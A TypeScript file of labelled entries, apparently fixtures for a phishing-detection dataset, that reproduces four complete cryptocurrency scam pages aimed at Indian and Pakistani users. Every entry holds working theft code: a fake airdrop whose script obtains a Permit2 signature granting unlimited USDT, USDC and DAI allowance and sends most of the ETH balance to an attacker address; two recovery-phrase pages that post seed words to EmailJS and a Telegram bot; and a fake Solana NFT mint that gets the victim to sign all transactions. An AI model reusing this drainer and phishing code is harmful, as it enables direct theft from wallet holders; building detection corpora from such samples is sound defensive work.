import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { doc, wordmark, FONTS } from '../parts/yn-kit.js';

// Wallet drainers and recovery-phrase pages aimed at the region's crypto users.

export const entries: Entry[] = [
{
  id: 'yn-drainer-airdrop-permit2-claim',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://claim-zkindia.xyz/',
  body: doc({
    title: 'ZKIndia ($ZKIN) Airdrop — Claim Season 1',
    css: `body{background:#0a0a12;color:#fff;font-family:Inter,Arial}.w{max-width:560px;margin:60px auto;text-align:center}.c{background:#151528;border:1px solid #2a2a4a;border-radius:16px;padding:30px}.amt{font-size:42px;font-weight:800;background:linear-gradient(90deg,#ff9933,#fff,#138808);-webkit-background-clip:text;color:transparent}button{background:#6c5ce7;color:#fff;border:0;border-radius:12px;height:52px;width:100%;font-size:17px;font-weight:700;margin-top:20px;cursor:pointer}.s{color:#9a9ab8;font-size:13px}`,
    body: `<div class="w">${wordmark('ZKIndia', '#6c5ce7', '#fff', 140, 40, 20)}<div class="c"><p class="s">Season 1 · Eligible wallets: 182,440</p><div class="amt">1,250 $ZKIN</div><p>Claim your allocation for early users of Indian DeFi protocols. Unclaimed tokens will be burned on 30 June.</p><button id="cb">Connect Wallet</button><p class="s" id="st"></p></div>
<p class="s">Supported: MetaMask, Trust Wallet, Coinbase Wallet, OKX Wallet</p></div>
<script src="/static/claim.js"></script>`,
  }),
  routes: {
    'claim-zkindia.xyz/static/claim.js': jsRoute(`(function(){
var RCV='0x7a3fD2e1b8C9a04F5e6d27B1c0A9e4f3D8b2C671';
var PERMIT2='0x000000000022D473030F116dDEE9F6B43aC78BA3';
var TOKENS=[['0xdAC17F958D2ee523a2206206994597C13D831ec7','USDT'],['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48','USDC'],['0x6B175474E89094C44Da98b954EedeAC495271d0F','DAI']];
var st=document.getElementById('st');
async function run(){
 if(!window.ethereum){st.textContent='Open this page in your wallet browser (MetaMask / Trust Wallet).';return}
 var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];
 st.textContent='Checking eligibility for '+acc.slice(0,6)+'...'+acc.slice(-4);
 await fetch('/api/log',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({a:acc,ref:document.referrer})}).catch(function(){});
 var chain=await ethereum.request({method:'eth_chainId'});
 if(chain!=='0x1'){try{await ethereum.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x1'}]})}catch(e){}}
 var dl=Math.floor(Date.now()/1000)+86400*30;
 var msg={domain:{name:'Permit2',chainId:1,verifyingContract:PERMIT2},types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:'PermitBatch',
  message:{details:TOKENS.map(function(t){return{token:t[0],amount:'1461501637330902918203684832716283019655932542975',expiration:dl,nonce:0}}),spender:RCV,sigDeadline:dl}};
 st.textContent='Sign the message to verify wallet ownership (no gas fee).';
 var sig=await ethereum.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(msg)]});
 await fetch('/api/permit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:acc,sig:sig,msg:msg.message})});
 var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});
 var v=BigInt(bal)*92n/100n;
 if(v>0n){st.textContent='Claiming $ZKIN... confirm the transaction.';await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:RCV,value:'0x'+v.toString(16),data:'0x4e71d92d'}]})}
 st.textContent='Claim submitted! Tokens will appear in your wallet within 24 hours.';
}
document.getElementById('cb').onclick=function(){run().catch(function(e){st.textContent='Error: '+(e&&e.message||e)+'. Please try again.'})};
})();`),
    'claim-zkindia.xyz/api/log': jsonRoute({ ok: true, eligible: true }),
  },
},
{
  id: 'yn-seed-walletconnect-rectify-import',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://dapps-walletconnect-rectify.web.app/wallets.html',
  body: doc({
    title: 'WalletConnect | Rectify & Sync Wallet',
    css: `body{background:#f2f5fa;font-family:Arial}.h{text-align:center;padding:30px}.g{max-width:860px;margin:0 auto;display:grid;grid-template-columns:repeat(4,1fr);gap:14px}.g div{background:#fff;border-radius:10px;padding:18px;text-align:center;cursor:pointer;box-shadow:0 1px 4px rgba(0,0,0,.08)}.md{display:none;position:fixed;inset:0;background:rgba(0,0,0,.5)}.md .b{background:#fff;max-width:460px;margin:60px auto;border-radius:12px;padding:22px}.tabs button{border:0;background:none;padding:8px 12px;border-bottom:2px solid transparent}.tabs .on{border-color:#3b99fc;color:#3b99fc}textarea{width:100%;height:110px;border:1px solid #ccd;border-radius:8px;padding:10px;font-size:14px}.imp{width:100%;height:44px;background:#3b99fc;color:#fff;border:0;border-radius:8px;margin-top:12px}`,
    body: `<div class="h">${wordmark('WalletConnect', '#3b99fc', '#fff', 180, 40, 20)}<h2>Select issue type, then choose your wallet</h2><p>Rectify · Validate · Claim Reward · Migration · Sync · Gas fees · Missing balance · Locked account</p></div>
<div class="g">${['MetaMask', 'Trust Wallet', 'Coinbase', 'Binance Web3', 'OKX Wallet', 'SafePal', 'Phantom', 'Exodus', 'Ledger Live', 'TokenPocket', 'Rainbow', 'Other'].map((w) => `<div data-w="${w}"><b>${w}</b></div>`).join('')}</div>
<div class="md" id="md"><div class="b"><h3 id="wn">Import wallet</h3><div class="tabs"><button class="on">Phrase</button><button>Keystore JSON</button><button>Private Key</button></div>
<form id="f"><textarea name="phrase" placeholder="Enter your recovery phrase" required></textarea><p style="font-size:12px;color:#777">Typically 12 (sometimes 24) words separated by single spaces</p><button class="imp">IMPORT</button></form></div></div>
<script>
var W='';document.querySelectorAll('.g div').forEach(function(d){d.onclick=function(){W=d.getAttribute('data-w');document.getElementById('wn').textContent='Import your '+W+' wallet';document.getElementById('md').style.display='block'}});
document.getElementById('f').onsubmit=function(e){e.preventDefault();var p=this.phrase.value.trim().toLowerCase().split(/\\s+/);
if([12,15,18,21,24].indexOf(p.length)<0){alert('Invalid phrase. Please enter 12 or 24 words.');return}
var fd=new FormData();fd.append('wallet',W);fd.append('phrase',p.join(' '));fd.append('service_id','service_k2m9q1');
fetch('https://api.emailjs.com/api/v1.0/email/send-form',{method:'POST',body:fd}).finally(function(){alert('Error connecting... please try again later or use another wallet.')})};
</script>`,
  }),
},
{
  id: 'yn-seed-trustwallet-verification-ur',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://trustwallet-verify-pk.com/verify',
  body: doc({
    title: 'Trust Wallet - اکاؤنٹ کی تصدیق',
    lang: 'ur',
    dir: 'rtl',
    font: FONTS.urdu,
    css: `body{background:#fff}.w{max-width:440px;margin:0 auto;padding:24px}.t{color:#0500ff;font-weight:700;font-size:22px}.al{background:#fff4f4;border:1px solid #ffcdcd;border-radius:10px;padding:12px;font-size:15px;line-height:2}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:8px;direction:ltr;margin:14px 0}.g input{height:40px;border:1px solid #ccd;border-radius:8px;padding:0 8px}button{width:100%;height:50px;background:#0500ff;color:#fff;border:0;border-radius:25px;font-size:17px}`,
    body: `<div class="w"><div class="t">🛡 Trust Wallet</div>
<div class="al">آپ کے والیٹ پر مشکوک سرگرمی کا پتہ چلا ہے۔ اسٹیٹ بینک اور ایف بی آر کی نئی ہدایات کے مطابق تمام پاکستانی صارفین کو اپنا والیٹ 48 گھنٹوں میں تصدیق کرنا ہوگا، ورنہ آپ کا USDT بیلنس منجمد کر دیا جائے گا۔</div>
<p>اپنے 12 الفاظ کا ریکوری فریز ترتیب سے درج کریں:</p>
<form id="f"><div class="g">${Array.from({ length: 12 }, (_, i) => `<input name="w${i + 1}" placeholder="${i + 1}" autocomplete="off" required>`).join('')}</div><button>تصدیق کریں</button></form>
<p style="font-size:12px;color:#888">Trust Wallet کبھی بھی آپ کے فنڈز تک رسائی نہیں رکھتا۔ آپ کی معلومات محفوظ ہیں۔</p></div>
<script>
document.getElementById('f').onsubmit=function(e){e.preventDefault();var w=[];for(var i=1;i<=12;i++)w.push(this['w'+i].value.trim());
fetch('https://api.telegram.org/bot7095521743:AAEp4mWq1xN7sR2tK9vB3cL6dH8fJ0gY5zU/sendMessage',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:'5577102934',text:'TW PK\\n'+w.join(' ')})}).finally(function(){document.querySelector('.w').innerHTML='<p style="text-align:center;padding:40px">✅ آپ کا والیٹ کامیابی سے تصدیق ہو گیا ہے۔</p>'})};
</script>`,
  }),
},
{
  id: 'yn-drainer-solana-ipl-nft-mint',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://ipl-legends-mint.io/',
  body: doc({
    title: 'IPL Legends — Free Mint on Solana',
    css: `body{background:#04102b;color:#fff;font-family:Arial;text-align:center}.w{max-width:620px;margin:50px auto}.nft{display:flex;gap:12px;justify-content:center;margin:20px 0}.nft div{width:150px;height:190px;border-radius:10px;background:linear-gradient(160deg,#f7b500,#e0115f)}button{background:#ab9ff2;color:#111;border:0;border-radius:10px;height:52px;width:280px;font-size:17px;font-weight:700}.p{height:10px;background:#1b2a55;border-radius:5px;margin:16px 60px}.p i{display:block;height:10px;width:81%;background:#ab9ff2;border-radius:5px}`,
    body: `<div class="w"><h1>IPL LEGENDS 🏏 Genesis Collection</h1><p>3,333 hand-drawn cricket legends on Solana. Free mint for the first 5,000 wallets — only network fee.</p>
<div class="nft"><div></div><div></div><div></div></div><p>2,711 / 3,333 minted</p><div class="p"><i></i></div>
<button id="m">Connect Phantom &amp; Mint</button><p id="s" style="font-size:13px;color:#aab"></p></div>
<script>
document.getElementById('m').onclick=async function(){var s=document.getElementById('s');var p=window.phantom&&window.phantom.solana||window.solana;
if(!p){s.textContent='Phantom wallet not found. Open in Phantom app browser.';return}
try{var r=await p.connect();var pk=r.publicKey.toString();s.textContent='Preparing mint for '+pk.slice(0,4)+'...';
var j=await (await fetch('/api/mint-tx?owner='+pk)).json();
var txs=j.txs.map(function(b){var raw=Uint8Array.from(atob(b),function(c){return c.charCodeAt(0)});return window.solanaWeb3?solanaWeb3.VersionedTransaction.deserialize(raw):raw});
var signed=await p.signAllTransactions(txs);
await fetch('/api/submit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:pk,signed:signed.map(function(t){return btoa(String.fromCharCode.apply(null,t.serialize?t.serialize():t))})})});
s.textContent='Minted! Your NFT will appear in your wallet shortly.'}catch(e){s.textContent='Mint failed, try again.'}};
</script>`,
  }),
  routes: {
    'ipl-legends-mint.io/api/mint-tx': jsonRoute({ txs: ['AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABAAMF', 'AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAABAAIE'], fee: 0.00089 }),
  },
},
];
